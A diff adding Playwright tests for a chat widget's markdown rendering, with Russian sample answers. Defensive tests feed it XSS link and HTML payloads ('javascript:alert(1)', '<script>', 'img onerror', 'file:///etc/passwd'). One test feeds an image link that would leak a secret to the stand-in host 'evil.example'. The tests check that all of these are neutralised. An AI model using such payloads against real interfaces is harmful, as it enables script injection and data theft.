@@ -1,0 +1,275 @@
+import type { Locator } from "@playwright/test";
+import type { ChatPage } from "./chat-page.ts";
+import { gate, textEvents } from "./backend.ts";
+import { expect, test } from "./fixtures.ts";
+
+/** An answer of this markdown, streamed and at its end. */
+async function answer(chat: ChatPage, markdown: string): Promise<Locator> {
+  chat.site.script.answer = () => textEvents(markdown);
+  await chat.open();
+  await chat.converse("Вопрос");
+  return chat.answerTexts;
+}
+
+test("headings, emphasis, lists, quotes, rules and code are what they are", async ({ chat }) => {
+  const text = await answer(
+    chat,
+    `# Один\n\n## Два\n\nАбзац с *курсивом*, **жирным** и \`кодом\`.\n\n- раз\n- два\n  - внутри\n\n3. три\n4. четыре\n\n> цитата\n\n---\n\nконец`,
+  );
+  await expect(text.getByRole("heading", { name: "Один" })).toBeVisible();
+  await expect(text.getByRole("heading", { name: "Два" })).toBeVisible();
+  await expect(text.locator("em")).toHaveText("курсивом");
+  await expect(text.locator("strong")).toHaveText("жирным");
+  await expect(text.locator("p code")).toHaveText("кодом");
+  await expect(text.locator("ul ul li")).toHaveText("внутри");
+  await expect(text.locator("ol")).toHaveAttribute("start", "3");
+  await expect(text.locator("blockquote")).toHaveText("цитата");
+  await expect(text.locator("hr")).toHaveCount(1);
+});
+
+test("tables", async ({ chat }) => {
+  const text = await answer(chat, "| Город | Градусы |\n| :-- | --: |\n| Москва | 18 |\n| Казань | 20 |");
+  const table = text.getByRole("table");
+  await expect(table.getByRole("columnheader")).toHaveText(["Город", "Градусы"]);
+  await expect(table.getByRole("row")).toHaveText([/Город/, /Москва/, /Казань/]);
+  expect(await table.getByRole("cell", { name: "18" }).evaluate((cell) => getComputedStyle(cell).textAlign)).toMatch(
+    /right|end/,
+  );
+});
+
+test("strikethrough", async ({ chat }) => {
+  const text = await answer(chat, "~~было~~ стало");
+  await expect(text.locator("del, s")).toHaveText("было");
+});
+
+test("task lists", async ({ chat }) => {
+  const text = await answer(chat, "- [x] сделано\n- [ ] впереди");
+  await expect(text.getByRole("checkbox")).toHaveCount(2);
+  await expect(text.getByRole("checkbox").first()).toBeChecked();
+  await expect(text.getByRole("checkbox").nth(1)).not.toBeChecked();
+  await expect(text.getByRole("checkbox").first()).toBeDisabled();
+});
+
+test("footnotes lead there and back, without leaving the thread's address", async ({ chat, page }) => {
+  const text = await answer(chat, `Сноска[^1].\n\n${"Абзац.\n\n".repeat(60)}[^1]: Её текст.`);
+  const url = page.url();
+  const reference = text.locator("sup").getByRole("link");
+  await reference.click();
+  await expect(text.getByText("Её текст.")).toBeInViewport();
+  await text.locator("li", { hasText: "Её текст." }).getByRole("link").click();
+  await expect(reference).toBeInViewport();
+  expect(page.url()).toBe(url);
+});
+
+test("footnotes of two answers do not lead to one another", async ({ chat, page, site }) => {
+  site.script.answer = ({ text }) => textEvents(`Сноска[^1].\n\n[^1]: Текст сноски ${text}.`);
+  await chat.open();
+  await chat.converse("один");
+  await chat.converse("два");
+  const ids = await page.evaluate(() =>
+    [...(document.querySelector("nitka-chat")?.shadowRoot?.querySelectorAll("[id]") ?? [])].map(({ id }) => id),
+  );
+  expect(new Set(ids).size).toBe(ids.length);
+});
+
+test("autolinks: addresses, www and mail", async ({ chat }) => {
+  const text = await answer(chat, "https://example.com/а и www.example.org и <mailto:a@example.com> и b@example.com");
+  await expect(text.getByRole("link", { name: "www.example.org" })).toHaveAttribute("href", "http://www.example.org");
+  await expect(text.getByRole("link", { name: "b@example.com" })).toHaveAttribute("href", "mailto:b@example.com");
+  await expect(text.getByRole("link", { name: /example\.com\// })).toHaveAttribute("href", /^https:\/\/example\.com\//);
+});
+
+test.describe("link protocols", () => {
+  for (const url of [
+    "http://example.com/",
+    "https://example.com/",
+    "irc://irc.example.com/nitka",
+    "ircs://irc.example.com/nitka",
+    "mailto:a@example.com",
+    "xmpp:a@example.com",
+  ]) {
+    test(`kept: ${url}`, async ({ chat }) => {
+      const text = await answer(chat, `[ссылка](${url})`);
+      await expect(text.getByRole("link", { name: "ссылка" })).toHaveAttribute("href", url);
+    });
+  }
+
+  test("stripped: every other, in every disguise", async ({ chat }) => {
+    const urls = [
+      "javascript:alert(1)",
+      "JaVaScRiPt:alert(1)",
+      "java&#10;script:alert(1)",
+      "&#x6A;avascript:alert(1)",
+      "data:text/html,<script>alert(1)</script>",
+      "vbscript:msgbox(1)",
+      "file:///etc/passwd",
+      "ftp://example.com/",
+      "tel:+70000000000",
+      "blob:https://example.com/1",
+      "\\javascript:alert(1)",
+    ];
+    const text = await answer(chat, urls.map((url, index) => `[ссылка ${index}](<${url}>)`).join("\n\n"));
+    await expect(text).toHaveText([/ссылка 10/]);
+    const hrefs = await text
+      .locator("a[href]")
+      .evaluateAll((links) => links.map((link) => (link as HTMLAnchorElement).protocol));
+    expect(hrefs.filter((protocol) => !/^https?:$/.test(protocol))).toEqual([]);
+    for (const index of urls.keys()) await expect(text).toContainText([`ссылка ${index}`]);
+  });
+
+  test("links open in a new tab and tell no one where from", async ({ chat }) => {
+    const text = await answer(chat, "[ссылка](https://example.com/)");
+    await expect(text.getByRole("link")).toHaveAttribute("target", "_blank");
+    await expect(text.getByRole("link")).toHaveAttribute("rel", /noopener/);
+    await expect(text.getByRole("link")).toHaveAttribute("rel", /noreferrer/);
+  });
+});
+
+test("HTML in an answer is text, not elements", async ({ chat }) => {
+  const text = await answer(
+    chat,
+    'До <b onclick="alert(1)">жирного</b> после\n\n<script>alert(1)</script>\n\n<img src=x onerror=alert(1)>',
+  );
+  await expect(text.locator("script, img, b, [onclick]")).toHaveCount(0);
+  await expect(text).toContainText(["жирного"]);
+});
+
+test.describe("images", () => {
+  test("of hosts that are not named load nothing: each is shown as its link", async ({ chat, page }) => {
+    const asked: string[] = [];
+    page.on("request", (request) => void (request.resourceType() === "image" && asked.push(request.url())));
+    const text = await answer(
+      chat,
+      "![секрет](https://evil.example/?q=секрет) ![два](//evil.example/2.png) ![три][x]\n\n[x]: https://evil.example/3.png",
+    );
+    await expect(text.locator("img")).toHaveCount(0);
+    await expect(text.getByRole("link", { name: /секрет/ })).toHaveAttribute("href", /^https:\/\/evil\.example\//);
+    expect(asked.filter((url) => url.includes("evil.example"))).toEqual([]);
+  });
+
+  test("of hosts in imageHosts load", async ({ chat, page }) => {
+    await page.route("https://pictures.example/**", (route) =>
+      route.fulfill({
+        contentType: "image/svg+xml",
+        body: '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"/>',
+      }),
+    );
+    await chat.config({ imageHosts: ["pictures.example"] });
+    const text = await answer(
+      chat,
+      "![закат](https://pictures.example/1.svg) ![иной](https://evilpictures.example/1.svg)",
+    );
+    await expect(text.getByRole("img", { name: "закат" })).toBeVisible();
+    await expect(text.locator("img")).toHaveCount(1);
+  });
+});
+
+test.describe("code blocks", () => {
+  test.use({ permissions: ["clipboard-read", "clipboard-write"] });
+  const markdown = "Вот:\n\n```TypeScript\nconst ответ = 42;\n```\n";
+
+  test("have a header with the lowercase language and a «Copy» button", async ({ chat }) => {
+    const text = await answer(chat, markdown);
+    await expect(text.getByText("typescript", { exact: true })).toBeVisible();
+    await expect(text.getByRole("button", { name: "Copy", exact: true })).toBeVisible();
+    await expect(text.locator("pre code")).toHaveText("const ответ = 42;\n");
+  });
+
+  test("are copied by it, which shows so for 3000 ms and ignores presses meanwhile", async ({ chat, page }) => {
+    await page.clock.install();
+    const text = await answer(chat, markdown);
+    await chat.freezeClock();
+    const button = text.locator("[data-copy-code]");
+    await expect(button).not.toHaveAttribute("data-copied", /.*/);
+    await button.click();
+    await expect
+      .poll(async () => {
+        await page.clock.runFor(16);
+        return button.getAttribute("data-copied");
+      })
+      .not.toBeNull();
+    expect(await page.evaluate(() => navigator.clipboard.readText())).toBe("const ответ = 42;");
+    await page.evaluate(() => navigator.clipboard.writeText("другое"));
+    await page.clock.runFor(1500);
+    await button.click();
+    await page.clock.runFor(1000);
+    expect(await page.evaluate(() => navigator.clipboard.readText())).toBe("другое");
+    await expect(button).toHaveAttribute("data-copied", /.*/);
+    await expect
+      .poll(async () => {
+        await page.clock.runFor(200);
+        return button.getAttribute("data-copied");
+      })
+      .toBeNull();
+  });
+
+  test("copying empty code does nothing", async ({ chat, page }) => {
+    const text = await answer(chat, "Пусто:\n\n```js\n```\n\nконец");
+    await page.evaluate(() => navigator.clipboard.writeText("прежнее"));
+    const button = text.locator("[data-copy-code]");
+    if (await button.isEnabled()) await button.click();
+    await expect(button).not.toHaveAttribute("data-copied", /.*/);
+    expect(await page.evaluate(() => navigator.clipboard.readText())).toBe("прежнее");
+  });
+
+  test("name «Copy» in a tooltip", async ({ chat }) => {
+    const text = await answer(chat, markdown);
+    await text.locator("[data-copy-code]").hover();
+    await expect(chat.tooltip("Copy")).toBeVisible();
+  });
+
+  test("do not widen the page, and scroll inside themselves", async ({ chat, page }) => {
+    const text = await answer(chat, `\`\`\`\n${"оченьдлиннаястрока".repeat(60)}\n\`\`\`\n`);
+    const pre = text.locator("pre");
+    expect(await pre.evaluate((element) => element.scrollWidth > element.clientWidth)).toBe(true);
+    expect((await pre.boundingBox())?.width).toBeLessThanOrEqual(704);
+    expect(await page.evaluate(() => document.documentElement.scrollWidth <= innerWidth)).toBe(true);
+  });
+
+  test("are highlighted once they are closed", async ({ chat }) => {
+    const text = await answer(chat, markdown);
+    await expect(text.locator("pre code span").first()).toBeVisible();
+    await expect(text.locator("pre [style]")).toHaveCount(0);
+  });
+});
+
+test("an answer that is cut in the middle of its markdown reads well at every step", async ({ chat, site }) => {
+  const held = [gate(), gate(), gate()];
+  site.script.answer = async function* () {
+    yield { type: "text-delta", delta: "Это **жир" };
+    await held[0]?.opened;
+    yield { type: "text-delta", delta: "ный** текст\n\n```js\nconst a" };
+    await held[1]?.opened;
+    yield { type: "text-delta", delta: " = 1;\n```\n\n| а | б |\n| - | - |\n| 1" };
+    await held[2]?.opened;
+    yield { type: "text-delta", delta: " | 2 |\n" };
+  };
+  await chat.open();
+  await chat.ask("Вопрос");
+  await expect(chat.answerTexts).toContainText(["жир"]);
+  held[0]?.open();
+  await expect(chat.answerTexts.locator("strong")).toHaveText("жирный");
+  await expect(chat.answerTexts.locator("pre")).toContainText("const a");
+  held[1]?.open();
+  await expect(chat.answerTexts.getByRole("table")).toBeVisible();
+  held[2]?.open();
+  await expect(chat.answerTexts.getByRole("cell")).toHaveText(["1", "2"]);
+});
+
+test("the end of a streamed answer is the same as the answer loaded", async ({ chat, page }) => {
+  const markdown = `# Заголовок\n\nАбзац[^1] с \`кодом\` и [ссылкой][l].\n\n- а\n\n  б\n- в\n\n1. раз\n   - два\n\n| а | б |\n| - | - |\n| 1 | 2 |\n\n\`\`\`js\nconst x = 1;\n\`\`\`\n\n> цитата\n> дальше\n\n- [ ] дело\n\n[l]: https://example.com/\n[^1]: Сноска.\n`;
+  const text = await answer(chat, markdown);
+  await expect(text.locator("pre code span").first()).toBeVisible();
+  const shape = () =>
+    text.evaluate((element) => {
+      const walk = (node: Element): string =>
+        `<${node.tagName.toLowerCase()}>${[...node.childNodes]
+          .map((child) => (child instanceof Element ? walk(child) : (child.textContent ?? "")))
+          .join("")}</>`;
+      return walk(element);
+    });
+  const streamed = await shape();
+  await page.reload();
+  await expect(text.locator("pre code span").first()).toBeVisible();
+  await expect.poll(shape).toBe(streamed);
+});
